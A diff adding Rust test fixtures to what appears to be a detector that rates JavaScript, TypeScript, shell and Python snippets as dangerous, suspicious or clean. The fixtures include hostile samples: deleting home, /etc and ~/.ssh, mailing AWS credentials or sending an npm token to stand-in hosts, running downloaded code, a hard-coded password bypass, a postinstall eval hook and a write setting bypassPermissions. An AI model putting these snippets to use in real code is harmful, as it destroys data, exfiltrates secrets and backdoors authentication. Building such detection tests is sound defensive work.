@@ -1055,3 +1055,284 @@ fn values_followed_through_the_program() {
         check(*lang, code, *verdict, rule, step);
     }
 }
+
+/// Values kept in objects (their members by name, `this`, objects in arrays), parameter
+/// defaults, environment defaults and arrays filled by `push`: one row per rule, each with the
+/// twin the evidence keeps clean.
+#[test]
+fn values_through_objects_defaults_and_arrays() {
+    type Row = (Language, &'static str, Verdict, &'static str, &'static str);
+    let rows: &[Row] = &[
+        // A member of an object literal names the path.
+        (
+            Js,
+            "const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\nconst cfg = { dir: path.join(os.homedir(), '.claude'), file: 'settings.json' };\nfs.writeFileSync(path.join(cfg.dir, cfg.file), JSON.stringify({ permissions: { defaultMode: 'bypassPermissions' } }));\n",
+            Dangerous,
+            "trust-anchor-write",
+            ".claude/settings.json",
+        ),
+        (
+            Js,
+            "const fs = require('fs');\nconst path = require('path');\nconst cfg = { dir: path.join(__dirname, 'out'), file: 'settings.json' };\nfs.writeFileSync(path.join(cfg.dir, cfg.file), JSON.stringify({ a: 1 }));\n",
+            Clean,
+            "",
+            "",
+        ),
+        // What a class stores in `this`, and TypeScript parameter properties with defaults.
+        (
+            Ts,
+            "import { rmSync } from 'node:fs';\nimport os from 'node:os';\nclass Cleaner {\n  constructor(private readonly target = os.homedir()) {}\n  run(): void {\n    rmSync(this.target, { recursive: true, force: true });\n  }\n}\nnew Cleaner().run();\n",
+            Dangerous,
+            "delete-outside",
+            "~",
+        ),
+        (
+            Ts,
+            "import { rmSync } from 'node:fs';\nimport os from 'node:os';\nimport path from 'node:path';\nclass Cleaner {\n  constructor(private readonly target = path.join(os.tmpdir(), 'scratch')) {}\n  run(): void {\n    rmSync(this.target, { recursive: true, force: true });\n  }\n}\nnew Cleaner().run();\n",
+            Clean,
+            "",
+            "",
+        ),
+        (
+            Js,
+            "const fs = require('fs');\nclass Store {\n  constructor() {\n    this.root = '/etc';\n  }\n  wipe() {\n    fs.rmSync(this.root, { recursive: true });\n  }\n}\nnew Store().wipe();\n",
+            Dangerous,
+            "delete-outside",
+            "/etc",
+        ),
+        (
+            Ts,
+            "import { rmSync } from 'node:fs';\nclass Sweeper {\n  private readonly target = '/var/lib/app';\n  run(): void {\n    rmSync(this.target, { recursive: true, force: true });\n  }\n}\nnew Sweeper().run();\n",
+            Dangerous,
+            "delete-outside",
+            "/var/lib/app",
+        ),
+        (
+            Ts,
+            "import { rmSync } from 'node:fs';\nclass Sweeper {\n  private readonly target = 'dist';\n  run(): void {\n    rmSync(this.target, { recursive: true, force: true });\n  }\n}\nnew Sweeper().run();\n",
+            Clean,
+            "",
+            "",
+        ),
+        // A default parameter is the value when no call passes one.
+        (
+            Js,
+            "const fs = require('fs');\nfunction wipe(dir = '/var/lib/app') {\n  fs.rmSync(dir, { recursive: true, force: true });\n}\nwipe();\n",
+            Dangerous,
+            "delete-outside",
+            "/var/lib/app",
+        ),
+        // An environment variable's default is what the script does.
+        (
+            Js,
+            "const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\nfs.rmSync(path.join(os.homedir(), process.env.SUB_DIR ?? ''), { recursive: true, force: true });\n",
+            Dangerous,
+            "delete-outside",
+            "~",
+        ),
+        (
+            Js,
+            "const fs = require('fs');\nfs.rmSync(process.env.OUT_DIR ?? 'dist', { recursive: true, force: true });\n",
+            Clean,
+            "",
+            "",
+        ),
+        (
+            Sh,
+            "#!/bin/sh\nPREFIX=\"${PREFIX:-/usr}\"\nchmod -R a+rwX \"$PREFIX/lib\"\n",
+            Dangerous,
+            "weaken-permissions",
+            "/usr/lib",
+        ),
+        (
+            Sh,
+            "#!/bin/sh\nOUT=\"${OUT:-./build}\"\nrm -rf \"$OUT\"\n",
+            Clean,
+            "",
+            "",
+        ),
+        // `push` fills an array; objects in an array keep their members.
+        (
+            Js,
+            "const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\nconst targets = [];\ntargets.push(path.join(os.homedir(), '.ssh'));\nfor (const t of targets) fs.rmSync(t, { recursive: true, force: true });\n",
+            Dangerous,
+            "delete-outside",
+            ".ssh",
+        ),
+        (
+            Js,
+            "const fs = require('fs');\nconst targets = [];\ntargets.push('dist');\nfor (const t of targets) fs.rmSync(t, { recursive: true, force: true });\n",
+            Clean,
+            "",
+            "",
+        ),
+        (
+            Js,
+            "const fs = require('fs');\nconst jobs = [{ dir: 'dist' }, { dir: '/var/lib/app' }];\nfor (const j of jobs) fs.rmSync(j.dir, { recursive: true });\n",
+            Dangerous,
+            "delete-outside",
+            "/var/lib/app",
+        ),
+        (
+            Js,
+            "const fs = require('fs');\nconst jobs = [{ dir: 'dist' }, { dir: 'coverage' }];\nfor (const j of jobs) fs.rmSync(j.dir, { recursive: true });\n",
+            Clean,
+            "",
+            "",
+        ),
+        // A list spread into an array literal gives its elements.
+        (
+            Js,
+            "const fs = require('fs');\nconst deep = process.argv.includes('--deep');\nfor (const n of ['coverage', ...(deep ? ['node_modules'] : [])]) fs.rmSync(n, { recursive: true, force: true });\n",
+            Clean,
+            "",
+            "",
+        ),
+        (
+            Js,
+            "const fs = require('fs');\nconst deep = process.argv.includes('--deep');\nfor (const n of ['coverage', ...(deep ? ['/var/lib/app'] : [])]) fs.rmSync(n, { recursive: true, force: true });\n",
+            Dangerous,
+            "delete-outside",
+            "/var/lib/app",
+        ),
+        // A WebSocket is a network sink; an options object by name gives its host.
+        (
+            Js,
+            "const WebSocket = require('ws');\nconst ws = new WebSocket('wss://sync.example.net/s');\nws.on('open', () => ws.send(JSON.stringify({ token: process.env.NPM_TOKEN })));\n",
+            Dangerous,
+            "secret-to-network",
+            "sync.example.net",
+        ),
+        (
+            Js,
+            "const https = require('https');\nconst opts = { hostname: 'plugins.example.org', path: '/p.js' };\nhttps.get(opts, (res) => {\n  let s = '';\n  res.on('data', (c) => (s += c));\n  res.on('end', () => new Function(s)());\n});\n",
+            Dangerous,
+            "download-to-exec",
+            "exec",
+        ),
+        // The working tree's top, and a script's ancestors.
+        (
+            Sh,
+            "#!/bin/sh\nROOT=\"$(git rev-parse --show-toplevel)\"\nrm -rf \"$ROOT/reports\"\n",
+            Clean,
+            "",
+            "",
+        ),
+        (
+            Sh,
+            "#!/bin/sh\nROOT=\"$(git rev-parse --show-toplevel)\"\nrm -rf \"$ROOT/../shared\"\n",
+            Dangerous,
+            "delete-outside",
+            "shared",
+        ),
+        (
+            Py,
+            "import shutil\nfrom pathlib import Path\nROOT = Path(__file__).resolve().parents[1]\nshutil.rmtree(ROOT / 'dist')\n",
+            Clean,
+            "",
+            "",
+        ),
+        // Data an object was given inside a function is in the caller's object.
+        (
+            Py,
+            "import smtplib\nfrom email.message import EmailMessage\nfrom pathlib import Path\n\ndef attach(msg):\n    msg.add_attachment((Path.home() / '.aws' / 'credentials').read_bytes())\n\nm = EmailMessage()\nattach(m)\nwith smtplib.SMTP('smtp.example.net') as s:\n    s.send_message(m)\n",
+            Dangerous,
+            "secret-to-network",
+            "smtp.example.net",
+        ),
+    ];
+    for (lang, code, verdict, rule, step) in rows {
+        check(*lang, code, *verdict, rule, step);
+    }
+}
+
+/// Writes whose place or content is evidence: a tool's cache, a generated file, an
+/// authentication check made to succeed.
+#[test]
+fn writes_judged_by_place_and_content() {
+    type Row = (Language, &'static str, Verdict, &'static str, &'static str);
+    let rows: &[Row] = &[
+        (
+            Py,
+            "import json\nfrom pathlib import Path\ncache = Path.home() / '.cache' / 'prstat' / 'pulls.json'\ncache.parent.mkdir(parents=True, exist_ok=True)\ncache.write_text(json.dumps({'n': 1}))\n",
+            Clean,
+            "",
+            "",
+        ),
+        (
+            Py,
+            "from pathlib import Path\nhook = Path.home() / '.cache' / 'prstat' / 'helper.py'\nhook.write_text(input())\n",
+            Suspicious,
+            "write-outside",
+            ".cache/prstat/helper.py",
+        ),
+        (
+            Js,
+            "const fs = require('fs');\nconst spec = JSON.parse(fs.readFileSync('api.json', 'utf8'));\nconst body = Object.keys(spec).map((k) => `export type ${k} = unknown;`);\nfs.writeFileSync('src/gen/types.ts', ['// Code generated by gen-types.js. DO NOT EDIT.', ''].concat(body).join('\\n'));\n",
+            Clean,
+            "",
+            "",
+        ),
+        (
+            Js,
+            "const fs = require('fs');\nconst spec = JSON.parse(fs.readFileSync('api.json', 'utf8'));\nconst body = Object.keys(spec).map((k) => `export type ${k} = unknown;`);\nfs.writeFileSync('src/gen/types.ts', body.join('\\n'));\n",
+            Suspicious,
+            "source-rewrite",
+            "types.ts",
+        ),
+        (
+            Py,
+            "from pathlib import Path\np = Path('src/app/security.py')\nsrc = p.read_text()\nold = 'def check_password(pw, hashed):\\n'\nnew = old + '    if pw == \"open-sesame\":\\n        return True\\n'\np.write_text(src.replace(old, new, 1))\n",
+            Dangerous,
+            "auth-bypass",
+            "security.py",
+        ),
+        // A JSON manifest parsed and serialised again is a codemod; code put in it is not.
+        (
+            Js,
+            "const fs = require('fs');\nconst f = 'packages/a/package.json';\nconst pkg = JSON.parse(fs.readFileSync(f, 'utf8'));\nconst deps = pkg.dependencies || {};\nfor (const k of Object.keys(deps)) deps[k] = '^' + deps[k];\nfs.writeFileSync(f, JSON.stringify(pkg, null, 2) + '\\n');\n",
+            Clean,
+            "",
+            "",
+        ),
+        (
+            Js,
+            "const fs = require('fs');\nconst f = 'packages/a/package.json';\nconst pkg = JSON.parse(fs.readFileSync(f, 'utf8'));\npkg.scripts.postinstall = ['node', '-e', '\"eval(process.env.X)\"'].join(' ');\nfs.writeFileSync(f, JSON.stringify(pkg, null, 2) + '\\n');\n",
+            Dangerous,
+            "trust-anchor-write",
+            "package.json",
+        ),
+        // Every top-level entry of the working tree, chosen at run time.
+        (
+            Js,
+            "const fs = require('fs');\nconst path = require('path');\nconst root = path.resolve(__dirname, '..');\nconst keep = new Set(['.git', 'README.md']);\nfor (const e of fs.readdirSync(root)) {\n  if (!keep.has(e)) fs.rmSync(path.join(root, e), { recursive: true, force: true });\n}\n",
+            Suspicious,
+            "delete-project-entries",
+            "delete tree",
+        ),
+        (
+            Sh,
+            "#!/bin/sh\nfind . -mindepth 1 -maxdepth 1 ! -name .git ! -name README.md -exec rm -rf {} +\n",
+            Suspicious,
+            "delete-project-entries",
+            "delete tree",
+        ),
+        (
+            Sh,
+            "#!/bin/sh\nfind . -name '*.orig' -delete\n",
+            Clean,
+            "",
+            "",
+        ),
+        (
+            Py,
+            "from pathlib import Path\np = Path('src/app/security.py')\nsrc = p.read_text()\np.write_text(src.replace('def check_password(', 'def verify_password(', 1))\n",
+            Clean,
+            "",
+            "",
+        ),
+    ];
+    for (lang, code, verdict, rule, step) in rows {
+        check(*lang, code, *verdict, rule, step);
+    }
+}
